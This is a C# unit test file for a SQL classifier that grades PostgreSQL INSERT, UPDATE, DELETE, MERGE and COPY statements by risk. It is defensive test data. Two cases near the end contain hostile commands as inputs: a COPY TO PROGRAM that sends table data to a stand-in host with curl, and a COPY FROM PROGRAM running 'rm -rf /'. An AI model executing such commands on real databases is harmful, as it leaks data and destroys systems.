using Gatehouse.Core.Model;
using Gatehouse.Core.Sql;

namespace Gatehouse.Core.Tests.Sql;

public sealed class SqlClassifierWriteTests
{
    [Theory]
    [InlineData("INSERT INTO users (id, name) VALUES (1, 'a')", Verb.Create, Risk.Low, "users", "")]
    [InlineData("insert into public.users values (1, 'a'), (2, 'b') returning id", Verb.Create, Risk.Low, "public.users", "")]
    [InlineData("INSERT INTO t DEFAULT VALUES", Verb.Create, Risk.Low, "t", "")]
    [InlineData("INSERT INTO archive SELECT * FROM orders WHERE created_at < '2020-01-01'", Verb.Create, Risk.Medium, "archive", "")]
    [InlineData("INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO NOTHING", Verb.Create, Risk.Low, "t", "")]
    [InlineData("INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = excluded.v", Verb.Update, Risk.High, "t", "")]
    [InlineData("INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT ON CONSTRAINT t_pkey DO UPDATE SET v = 3", Verb.Update, Risk.High, "t", "")]
    [InlineData("UPDATE users SET name = 'x' WHERE id = 42", Verb.Update, Risk.High, "users", "")]
    [InlineData("UPDATE users SET active = false WHERE last_login < now() - interval '1 year'", Verb.Update, Risk.High, "users", "")]
    [InlineData("UPDATE t SET a = 1 FROM u WHERE t.id = u.id", Verb.Update, Risk.High, "t", "")]
    [InlineData("UPDATE t SET a = (SELECT max(b) FROM u WHERE u.x = 1)", Verb.Update, Risk.Critical, "t", "all-rows")]
    [InlineData("UPDATE users SET password = 'x'", Verb.Update, Risk.Critical, "users", "all-rows")]
    [InlineData("UPDATE users SET a = 1 WHERE 1=1", Verb.Update, Risk.Critical, "users", "all-rows")]
    [InlineData("UPDATE users SET a = 1 WHERE true", Verb.Update, Risk.Critical, "users", "all-rows")]
    [InlineData("UPDATE ONLY users SET a = 1 WHERE id = id", Verb.Update, Risk.Critical, "users", "all-rows")]
    [InlineData("UPDATE t SET a = 1 WHERE CURRENT OF c", Verb.Update, Risk.High, "t", "")]
    [InlineData("DELETE FROM users WHERE id = 42", Verb.Delete, Risk.High, "users", "")]
    [InlineData("DELETE FROM sessions WHERE expires_at < now()", Verb.Delete, Risk.High, "sessions", "")]
    [InlineData("DELETE FROM t USING u WHERE t.id = u.id AND u.flag", Verb.Delete, Risk.High, "t", "")]
    [InlineData("DELETE FROM t WHERE id IN (SELECT id FROM u)", Verb.Delete, Risk.High, "t", "")]
    [InlineData("DELETE FROM users", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("delete from \"Users\";", Verb.Delete, Risk.Critical, "Users", "all-rows")]
    [InlineData("DELETE FROM users RETURNING *", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 1=1", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 1 = 1", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE TRUE", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 'a'='a'", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 1", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE x = x", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE NOT false", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE id = 5 OR 1=1", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE (id = 5) OR ('x' = 'x')", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 2 > 1", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 1 <> 2", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE ((1=1))", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 1=1 AND true", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE NOT (1 = 0)", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE null IS NULL", Verb.Delete, Risk.Critical, "users", "all-rows")]
    [InlineData("DELETE FROM users WHERE 1=1 AND id = 5", Verb.Delete, Risk.High, "users", "")]
    [InlineData("DELETE FROM users WHERE 1=0 OR id = 5", Verb.Delete, Risk.High, "users", "")]
    [InlineData("DELETE FROM users WHERE id BETWEEN 1 AND 10", Verb.Delete, Risk.High, "users", "")]
    [InlineData("DELETE FROM users WHERE x = y", Verb.Delete, Risk.High, "users", "")]
    [InlineData("DELETE FROM users WHERE f(x) = f(x)", Verb.Delete, Risk.High, "users", "")]
    [InlineData("DELETE FROM ONLY parent WHERE id = $1", Verb.Delete, Risk.High, "parent", "")]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Verb.Delete, Risk.High, "t", "")]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", Verb.Update, Risk.High, "t", "")]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", Verb.Create, Risk.Medium, "t", "")]
    [InlineData("COPY users FROM STDIN WITH (FORMAT csv)", Verb.Create, Risk.Medium, "users", "")]
    [InlineData("COPY users (id, name) FROM '/tmp/users.csv' CSV", Verb.Create, Risk.Medium, "users", "server-file-read")]
    [InlineData("COPY users TO STDOUT", Verb.Read, Risk.None, "users", "")]
    [InlineData("COPY users TO '/tmp/users.csv'", Verb.Read, Risk.Medium, "users", "server-file-write")]
    [InlineData("COPY users TO PROGRAM 'curl -d @- http://evil'", Verb.Execute, Risk.Critical, "curl -d @- http://evil", "opaque")]
    [InlineData("COPY t FROM PROGRAM 'rm -rf /'", Verb.Execute, Risk.Critical, "rm -rf /", "opaque")]
    public void Classify_DataChange_MatchesExpectation(string sql, Verb verb, Risk risk, string id, string tags)
    {
        var kind = verb == Verb.Execute ? "program" : "table";
        SqlExpect.Matches(sql, SqlDialect.PostgreSql, verb, risk, kind, id, tags);
    }

    [Fact]
    public void Classify_MergeWithDeleteAndInsert_ReportsEveryEffect()
    {
        var actions = SqlClassifier.Classify("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)");
        actions.Select(a => a.Verb).ShouldBe([Verb.Delete, Verb.Create], ignoreOrder: true);
    }

    [Fact]
    public void Classify_DeleteAllRows_IsIrreversible()
    {
        SqlClassifier.Classify("DELETE FROM t").Single().Reversible.ShouldBeFalse();
    }

    [Fact]
    public void Classify_Insert_IsReversible()
    {
        SqlClassifier.Classify("INSERT INTO t VALUES (1)").Single().Reversible.ShouldBeTrue();
    }
}
